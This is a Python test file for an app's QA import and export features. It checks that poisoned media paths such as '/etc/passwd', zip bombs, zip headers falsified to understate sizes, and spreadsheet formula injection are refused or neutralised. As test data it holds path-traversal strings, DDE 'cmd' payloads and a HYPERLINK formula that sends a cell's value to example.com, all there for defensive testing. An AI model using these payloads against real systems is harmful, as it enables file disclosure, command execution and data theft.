"""Hostile QA files and a failing store, in a real SQLite store with real files:

- an import cannot turn a media reference into a file read, and a reference already in a
  database cannot either, when the QA tab shows or replays it;
- a small zip cannot make the server unpack gigabytes (entry count, sizes declared and read);
- the CSV export hands a spreadsheet no formulas, and keeps ordinary text and numbers;
- the QA tab's messages say what failed without SQL, parameters or server paths.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import logging
import struct
import warnings
import zipfile
from pathlib import Path

import gradio as gr
import pytest
from sqlalchemy import create_engine, text

from autoglm_demo.client import BackendClient
from autoglm_demo.qa.export import (
    LIMITS,
    ImportLimits,
    InvalidExport,
    open_export,
    write_exports,
)
from autoglm_demo.qa.media import MediaFolder
from autoglm_demo.qa.recorder import QaSession, Recorder
from autoglm_demo.qa.records import Feedback, MediaKind, MediaRef, Rating, SessionRecord
from autoglm_demo.qa.store import QaStore
from autoglm_demo.ui.qa_tab import QaPage
from tests.qa_support import REQUEST, finished_turn, screenshot

VALID = "0123456789abcdef" * 4


def record(store: QaStore, folder: Path, *turns: tuple[str, str]) -> SessionRecord:
    """A session recorded the way the page records it, media stored, one screenshot each."""
    recorder = Recorder(store, store_media=True)
    session, shown = QaSession(), []
    for number, (question, answer) in enumerate(turns):
        shot = screenshot(folder / f"shot-{number}.png", (number * 40 % 256, 90, 160))
        shown.append(finished_turn(question, answer, [str(shot)]))
        recorder.record(session, shown, REQUEST)
    recorder.close()
    return store.session(session.id)


def exported(store: QaStore, session: SessionRecord, folder: Path) -> tuple[Path, Path, Path]:
    jsonl, table, archive = write_exports(session, folder, store.blob)
    return jsonl, table, archive


def qa_page(store: QaStore, folder: Path) -> QaPage:
    # The QA tab's own functions; nothing here reaches the backend.
    return QaPage(Recorder(store, store_media=True), BackendClient("http://127.0.0.1:9"), folder)


def shown_warning(call) -> str:  # type: ignore[no-untyped-def]
    """The warning a QA tab function shows (outside a page, Gradio raises it as a warning)."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        call()
    [warning] = [w for w in caught if issubclass(w.category, UserWarning)]
    return str(warning.message)


def open_row(session_id: str) -> gr.SelectData:
    row = ["", "", 1, "", "", 0, 0, "", session_id]
    return gr.SelectData(None, {"index": [0, 0], "value": "", "row_value": row})


# Media references.

POISONED = [
    ("/etc", "passwd"),
    ("/proc/self", "environ"),
    ("../../../../etc", "passwd"),
    (VALID.upper(), "shot.png"),
    (VALID[:63], "shot.png"),
    (VALID + "0", "shot.png"),
    (VALID, "../../../etc/passwd"),
    (VALID, "/etc/passwd"),
    (VALID, "..\\..\\secret.png"),
    (VALID, ".."),
    (VALID, "shot\0.png"),
    (VALID, "x" * 256),
    (VALID, ""),
]


@pytest.mark.parametrize(("sha256", "name"), POISONED)
def test_an_import_refuses_a_media_reference_that_is_not_a_hash_and_a_plain_name(
    store: QaStore, tmp_path: Path, sha256: str, name: str
) -> None:
    session = record(store, tmp_path, ("What is on the screen?", "A home screen"))
    jsonl, _, _ = exported(store, session, tmp_path / "out")
    header, turn = jsonl.read_text(encoding="utf-8").splitlines()
    poisoned = json.loads(turn)
    poisoned["images"][0].update(sha256=sha256, name=name)
    hostile = tmp_path / "hostile.jsonl"
    hostile.write_text(header + "\n" + json.dumps(poisoned) + "\n", encoding="utf-8")

    with pytest.raises(InvalidExport) as refused, open_export(hostile):
        pass
    message = str(refused.value)
    assert f"hostile.jsonl, line 2 (turn {poisoned['id']})" in message  # names the record
    assert "media" in message

    target = QaStore(f"sqlite:///{tmp_path / 'target.sqlite3'}")
    qa = qa_page(target, tmp_path / "page")
    shown = shown_warning(lambda: qa.import_file(str(hostile), None))
    assert shown.startswith("Could not import: hostile.jsonl, line 2")
    assert target.sessions() == []  # refused, not kept
    target.close()


def test_a_reference_already_in_the_database_is_not_linked_or_served(
    store: QaStore, tmp_path: Path
) -> None:
    """Sessions imported before references were checked: showing one in the QA tab must not
    link /etc/passwd, and a media folder whose hash folder leads elsewhere is refused too."""
    original = record(store, tmp_path, ("What is on the screen?", "A home screen"))
    [turn] = original.turns
    good = turn.images[0]
    poisoned = dataclasses.replace(
        turn,
        id="c" * 32,
        session_id="d" * 32,
        images=(MediaRef(MediaKind.IMAGE, "passwd", "/etc", "text/plain", 1), good),
        audio=MediaRef(MediaKind.AUDIO, "environ", "/proc/self", "audio/wav", 1),
    )
    store.add_session(SessionRecord("d" * 32, original.created_at, "poisoned", None, (poisoned,)))

    qa = qa_page(store, tmp_path / "page")
    _, _, transcript, _, _ = qa.open(open_row("d" * 32), None)
    files = [part["path"] for m in transcript for part in _files(m["content"])]
    media_root = (tmp_path / "page" / "qa-media").resolve()
    assert files and all(Path(path).resolve().is_relative_to(media_root) for path in files)
    assert Path(files[0]).read_bytes() == store.blob(good.sha256 or "").data  # the good one
    assert "Not stored: passwd, environ" in str(transcript[0]["content"])

    # A hash folder that is a link out of the media folder: the resolved path is checked.
    media = MediaFolder(store, tmp_path / "media")
    media.root.mkdir()
    (media.root / VALID).symlink_to("/etc")
    assert media.path(MediaRef(MediaKind.IMAGE, "passwd", VALID, "text/plain", 1)) is None


def _files(content: object) -> list[dict[str, str]]:
    parts = content if isinstance(content, list) else [content]
    return [p for p in parts if isinstance(p, dict) and "path" in p]


# Zip archives.


def rezipped(archive: Path, target: Path, extra: dict[str, bytes], repeat: int = 1) -> Path:
    """`archive`'s entries, with each media entry written `repeat` times, plus `extra`."""
    with (
        zipfile.ZipFile(archive) as source,
        zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as copy,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore")  # zipfile warns about a name written twice
        for entry in source.infolist():
            data = source.read(entry)
            for _ in range(repeat if entry.filename.startswith("media/") else 1):
                copy.writestr(entry.filename, data)
        for name, data in extra.items():
            copy.writestr(name, data)
    return target


def refusal(path: Path, limits: ImportLimits = LIMITS) -> str:
    with pytest.raises(InvalidExport) as refused, open_export(path, limits):
        pass
    return str(refused.value)


def test_zip_bombs_are_refused_by_count_and_size_before_they_are_unpacked(
    store: QaStore, tmp_path: Path
) -> None:
    session = record(store, tmp_path, ("Where is search?", "Tap it"), ("And then?", "Type"))
    _, _, archive = exported(store, session, tmp_path / "out")
    entries = zipfile.ZipFile(archive).infolist()
    whole = sum(e.file_size for e in entries)
    largest = max(e.file_size for e in entries if e.filename.startswith("media/"))

    # The probe's zip, scaled down: one media entry six times. Refused by the declared total
    # before any of it is read, and by name even when the total fits.
    six = rezipped(archive, tmp_path / "six.zip", {}, repeat=6)
    small_total = ImportLimits(total_bytes=whole + largest)
    assert "unpacks to" in refusal(six, small_total) and "at most" in refusal(six, small_total)
    assert "is in the zip twice" in refusal(six)

    zeros = {f"padding/{n}.bin": bytes(4096) for n in range(20)}
    many = rezipped(archive, tmp_path / "many.zip", zeros)
    assert "files in the zip; an export holds at most 10" in refusal(many, ImportLimits(entries=10))
    big = ImportLimits(media_bytes=100)
    assert "unpacks to more than 100 bytes" in refusal(archive, big)
    assert "session.jsonl unpacks to more than 100 bytes" in refusal(
        archive, ImportLimits(jsonl_bytes=100)
    )

    # Within the limits the same zip imports whole, and its media files are stored.
    with open_export(archive, ImportLimits(media_bytes=largest, total_bytes=whole)) as found:
        target = QaStore(f"sqlite:///{tmp_path / 'target.sqlite3'}")
        target.add_session(found.session, found.blobs())
    assert target.session(session.id) == session
    target.close()


def test_a_zip_whose_header_understates_an_entry_is_refused_not_believed(
    store: QaStore, tmp_path: Path
) -> None:
    session = record(store, tmp_path, ("Where is search?", "Tap it"))
    _, _, archive = exported(store, session, tmp_path / "out")
    lying = tmp_path / "lying.zip"
    data = bytearray(archive.read_bytes())
    # Every header (local and central) of the media entry claims it unpacks to 16 bytes.
    [entry] = [e for e in zipfile.ZipFile(archive).infolist() if e.filename.startswith("media/")]
    real = struct.pack("<I", entry.file_size)
    name = entry.filename.encode()
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            header_name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if data[header_name_at : header_name_at + len(name)] == name:
                assert data[start + offset : start + offset + 4] == real
                data[start + offset : start + offset + 4] = struct.pack("<I", 16)
            start += 4
    lying.write_bytes(bytes(data))
    assert zipfile.ZipFile(lying).getinfo(entry.filename).file_size == 16
    message = refusal(lying)
    assert "not a readable zip" in message or "does not match its sha256" in message


# CSV export.


def test_the_csv_export_neutralises_formulas_and_keeps_text_and_numbers(
    store: QaStore, tmp_path: Path
) -> None:
    cells = {
        '=HYPERLINK("http://example.com/?"&A1,"click")': "'=HYPERLINK",
        "+cmd|' /C calc'!A0": "'+cmd",
        "-2+3+cmd|' /C calc'!A0": "'-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "-42": "-42",  # a number, not a formula: kept so that it stays a number
        "-3.5": "-3.5",
        "Tap the - button, then = and @": "Tap the - button",
        "搜索框在哪里？": "搜索框在哪里？",
    }
    questions = list(cells)
    session = record(store, tmp_path, *[(q, q) for q in questions])
    recorder = Recorder(store, store_media=False)
    recorder.rate(session.turns[0].id, Feedback(Rating.BAD, "=1+1 is wrong"))
    recorder.close()
    _, table, _ = exported(store, store.session(session.id), tmp_path / "out")
    with table.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))

    for row, (question, expected) in zip(rows, cells.items(), strict=True):
        assert row["question"].startswith(expected), (question, row["question"])
        assert row["answer"] == row["question"]
        if expected.startswith("'"):
            assert row["question"] == "'" + question  # only the apostrophe is added
        else:
            assert row["question"] == question
    assert rows[0]["comment"] == "'=1+1 is wrong"
    assert rows[0]["ttft_s"] == "0.25"  # the export's own numbers are untouched


# Errors in the QA tab.

INTERNALS = ("INSERT", "SELECT", "SQL", "parameters", "sqlite", "Traceback", "/")


def test_a_failing_store_gets_a_readable_message_and_the_details_go_to_the_log(
    store: QaStore, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    session = record(store, tmp_path, ("Where is search?", "Tap it"))
    _, _, archive = exported(store, session, tmp_path / "out")
    qa = qa_page(store, tmp_path / "page")

    # Importing the same session twice: the person's to fix, so the reason is shown.
    again = shown_warning(lambda: qa.import_file(str(archive), None))
    assert again == f"Could not import: session {session.id} is already in the QA database"

    # The same turns under another session id: refused by name, not an IntegrityError.
    jsonl, _, _ = exported(store, session, tmp_path / "out2")
    header, turn = jsonl.read_text(encoding="utf-8").splitlines()
    renamed = tmp_path / "renamed.jsonl"
    renamed.write_text(header.replace(session.id, "e" * 32) + "\n" + turn + "\n", "utf-8")
    shown = shown_warning(lambda: qa.import_file(str(renamed), None))
    assert f"turn {session.turns[0].id} of session {'e' * 32} is already" in shown

    # The database itself fails (here a trigger refuses every insert, naming a server path).
    raw = create_engine(store.engine.url)
    with raw.begin() as connection:
        connection.execute(
            text(
                "CREATE TRIGGER refuse BEFORE INSERT ON qa_turns BEGIN "
                "SELECT RAISE(ABORT, 'disk I/O error in /srv/autoglm/qa.sqlite3'); END"
            )
        )
    other = tmp_path / "other.jsonl"
    other.write_text(
        header.replace(session.id, "f" * 32) + "\n" + turn.replace(session.turns[0].id, "9" * 32),
        "utf-8",
    )
    with caplog.at_level(logging.ERROR, logger="autoglm_demo.ui.qa_tab"):
        failed = shown_warning(lambda: qa.import_file(str(other), None))
    assert failed.startswith("Could not import. The QA database or the server")
    assert not any(internal in failed for internal in INTERNALS), failed
    assert "INSERT INTO qa_turns" in caplog.text  # the details are in the server log
    assert "/srv/autoglm" in caplog.text

    # Exporting cannot write its folder; then reading fails (a table gone).
    (tmp_path / "page").mkdir(exist_ok=True)
    (tmp_path / "page" / "qa-exports").write_text("a file where a folder should be")
    with pytest.raises(gr.Error) as exporting:
        qa.export(session.id, None)
    with raw.begin() as connection:
        connection.execute(text("DROP TABLE qa_feedback"))
    with pytest.raises(gr.Error) as opening:
        qa.open(open_row(session.id), None)
    with pytest.raises(gr.Error) as listing:
        qa.search(None, None, None, None, "bad", None, None, None)  # type: ignore[arg-type]
    for error, action in (
        (exporting, "Could not export the session."),
        (opening, "Could not open the session."),
        (listing, "Could not list the sessions."),
    ):
        assert error.value.message.startswith(action), error.value.message
        assert not any(internal in error.value.message for internal in INTERNALS)
    raw.dispose()
